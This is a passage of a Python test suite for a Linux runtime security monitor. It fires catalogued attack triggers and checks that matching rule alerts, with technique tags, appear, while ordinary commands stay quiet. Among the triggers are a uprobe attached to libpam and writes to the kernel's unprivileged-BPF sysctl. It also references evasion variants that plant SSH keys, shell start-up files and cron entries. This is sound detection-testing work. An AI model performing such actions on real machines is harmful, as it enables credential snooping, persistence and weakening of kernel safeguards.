                               "/usr/lib/libpam.so.0") if os.path.exists(p)), None)
    assert libpam, "libpam.so.0 not found"
    expect("VG-073", "C perf_event_open uprobe on libpam (refused)", attack("uprobe", libpam),
           probe__path=os.path.realpath(libpam))  # the file the kernel probes
    ub = "/proc/sys/kernel/unprivileged_bpf_disabled"
    expect("VG-082", "python", py(f"import os; os.close(os.open('{ub}', os.O_WRONLY))"), fd__name=ub)
    expect("VG-082", "shell", run(["sh", "-c", f": >> {ub}"]), fd__name=ub)


def _ordinary_activity(t, mon_pid):
    """Things a normal machine does all day: none may raise an alert."""
    with open(f"{t}/tiny-{MARK}.c", "w") as f:
        f.write("int main(void) { return 0; }\n")
    web = Listener(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")
    try:
        for what, argv in [
                ("ls", ["ls", "-la", t]),
                ("cat of a normal file", ["cat", "/etc/os-release"]),
                ("gcc", ["gcc", "-O1", "-o", f"{t}/tiny-{MARK}", f"{t}/tiny-{MARK}.c"]),
                ("curl to loopback", ["curl", "-s", f"http://127.0.0.1:{web.port}/{MARK}"]),
                ("apt-cache policy", ["apt-cache", "policy", "bash"]),
                ("ssh-keygen", ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", MARK,
                                "-f", f"{t}/keys-{MARK}"]),
                ("python3 -c 1", [PY, "-c", "1"]),
                ("grep in a file", ["grep", "-c", "root", "/etc/passwd"]),
                ("grep -P (PCRE2 JIT)", ["grep", "-cP", r"ro+t\d*", "/etc/passwd"]),
                ("id and whoami", ["sh", "-c", "id; whoami; uname -a"]),
                ("sort", ["sort", "/etc/hostname"]),
                ("find in /etc", ["find", "/etc", "-name", "*.conf"]),
                ("ps with environments", ["ps", "e", "-p", "1"]),
                ("unix socketpair as stdin",
                 [PY, "-c", "import socket, os; a, b = socket.socketpair(); os.dup2(a.fileno(), 0)"]),
                ("root re-setting root's ids",
                 [PY, "-c", "import os; os.setresgid(0, 0, 0); os.setresuid(0, 0, 0); os.setuid(0)"]),
                ("run a program built in a private dir below /tmp", [f"{t}/tiny-{MARK}"]),
                ("git init in a private dir below /tmp", ["git", "init", "-q", f"{t}/repo-{MARK}"]),
                ("kill -0 of the monitor", ["kill", "-0", str(mon_pid)]),
        ]:
            _ordinary.append((what, run(argv, check=not what.startswith("grep")), MARK if what == "gcc" else None))
    finally:
        web.close()


def _session():
    return once(_run, "catalogue", _start_session)


def _start_session():
    assert os.access(ATTACK, os.X_OK), f"{ATTACK} is not built"
    t = tempfile.mkdtemp(prefix=f"vigil-cat-{MARK}-")
    home = os.path.join(t, "home")
    nob = os.path.join(t, "nobody")  # a directory nobody may write to
    os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
    os.makedirs(nob)
    os.chmod(nob, 0o777)
    os.chmod(t, 0o755)
    os.makedirs(os.path.join(t, "tools"))
    try:
        with Monitor("--rules", RULES, events=False) as mon:
            _files(t, home, nob)
            _processes(t, home, nob)
            _network(t)
            _bpf(t)
            _self_protection(mon)
            catalogue_evasions.identity(types.SimpleNamespace(**globals()), t, home, nob)
            catalogue_evasions.paths(types.SimpleNamespace(**globals()), t, home, nob)
            catalogue_evasions.meaning(types.SimpleNamespace(**globals()), t, home, nob)
            catalogue_evasions.syscalls(types.SimpleNamespace(**globals()), t)
            catalogue_evasions.more(types.SimpleNamespace(**globals()), t, home, nob)
            catalogue_evasions.kernel_facts(types.SimpleNamespace(**globals()), t, nob)
            catalogue_evasions.arguments(types.SimpleNamespace(**globals()), t)
            catalogue_evasions.socket_shells(types.SimpleNamespace(**globals()))
            catalogue_evasions.fastopen_sendmsg(types.SimpleNamespace(**globals()))
            catalogue_evasions.capabilities(types.SimpleNamespace(**globals()), t)
            _ordinary_activity(t, mon.proc.pid)
            time.sleep(0.5)
    finally:
        # deleting the planted authorized_keys, shell start-up files and cron
        # tables (the evasion variants plant them below t) is, to the rules, a
        # change of them
        for rule in ("SSH authorized_keys modified", "Shell configuration file modified",
                     "Cron job created or modified"):
            deliberate_rule(os.getpid(), rule)
        shutil.rmtree(t, ignore_errors=True)
        for p in (f"/etc/vigil-test-{MARK}", f"/etc/vigil-test-{MARK}-2",
                  f"/etc/vigil-test-{MARK}-ev", f"/etc/vigil-test-{MARK}-p",
                  f"/etc/vigil-test-{MARK}-p2", f"/var/log/vigil-test-{MARK}.log",
                  f"/var/log/vigil-test-{MARK}-f.log",
                  f"/var/log/vigil-test-{MARK}-ev.log"):
            if os.path.lexists(p):
                os.unlink(p)
    _run["mon"] = mon
    _run["alerts"] = [e for e in mon.events() if e.get("priority") != "Debug"]
    return _run


def _same(value, expected):
    """Output fields may arrive as JSON numbers or as strings."""
    return value is not None and str(value) == str(expected)


def _alerts_for(vg, pid, marker):
    out = []
    for a in _session()["alerts"]:
        if vg not in a.get("tags", []):
            continue
        of = a["output_fields"]
        if pid is not None and _same(of.get("proc.pid"), pid):
            out.append(a)
        elif marker is not None and marker in json.dumps(of):
            out.append(a)
    return out


def _check(vg):
    s = _session()
    cases = [e for e in _expect if e[0] == vg]
    assert cases, f"no trigger for {vg}"
    # issue 18's acceptance: at least three variants for every entry
    assert len(set(c[1] for c in cases)) >= 3, f"{vg}: only {[c[1] for c in cases]}"
    problems = []
    for _, variant, pid, marker, fields in cases:
        found = _alerts_for(vg, pid, marker)
        if not found:
            mine = [a["rule"] for a in s["alerts"]
                    if (pid is not None and _same(a["output_fields"].get("proc.pid"), pid))
                    or (marker and marker in json.dumps(a["output_fields"]))]
            problems.append(f"{vg} {variant}: no alert (pid={pid} marker={marker}); "
                            f"alerts of that process: {mine}")
            continue
        for a in found:
            if a["rule"] not in RULES_BY_ID[vg]:
                problems.append(f"{vg} {variant}: unexpected rule {a['rule']}")
        if fields and not any(all(_same(a["output_fields"].get(k), v) for k, v in fields.items())
                              for a in found):
            problems.append(f"{vg} {variant}: no alert with {fields}: "
                            f"{[a['output_fields'] for a in found][:3]}")
    assert not problems, "\n".join(problems)
    return f"[{len(cases)} variants]"


def test_monitor_ran_with_the_default_rules():
    s = _session()
    assert s["mon"].proc.returncode == 0, s["mon"].stderr()
    assert s["alerts"], "no alerts at all:\n" + s["mon"].stderr()
    for a in s["alerts"]:
        assert set(a) >= {"rule", "priority", "output", "output_fields", "tags", "time"}, a


def test_every_alert_names_its_catalogue_id_and_technique():
    for a in _session()["alerts"]:
        ids = [t for t in a["tags"] if t.startswith("VG-")]
        assert len(ids) == 1, a
        assert a["rule"] in RULES_BY_ID[ids[0]], a
        # every rule but the listening one (no technique fits) names one
        techniques = [t for t in a["tags"] if re.fullmatch(r"T\d{4}(\.\d{3})?", t)]
        assert techniques or ids[0] == "VG-064", a


def _make_test(vg):
    def test():
        return _check(vg)
    test.__name__ = "test_" + vg.replace("-", "_").lower()
    return test


for _vg in RULES_BY_ID:
    globals()["test_" + _vg.replace("-", "_").lower()] = _make_test(_vg)


def test_ordinary_activity_is_quiet():
    s = _session()
    noisy = []
    for what, pid, marker in _ordinary:
        for a in s["alerts"]:
            of = a["output_fields"]
            if _same(of.get("proc.pid"), pid) or _same(of.get("proc.ppid"), pid) or \
               (marker and marker in json.dumps(of) and "tiny" in json.dumps(of)):
                noisy.append(f"{what}: {a['rule']}: {a['output']}")
    assert not noisy, "\n".join(noisy)
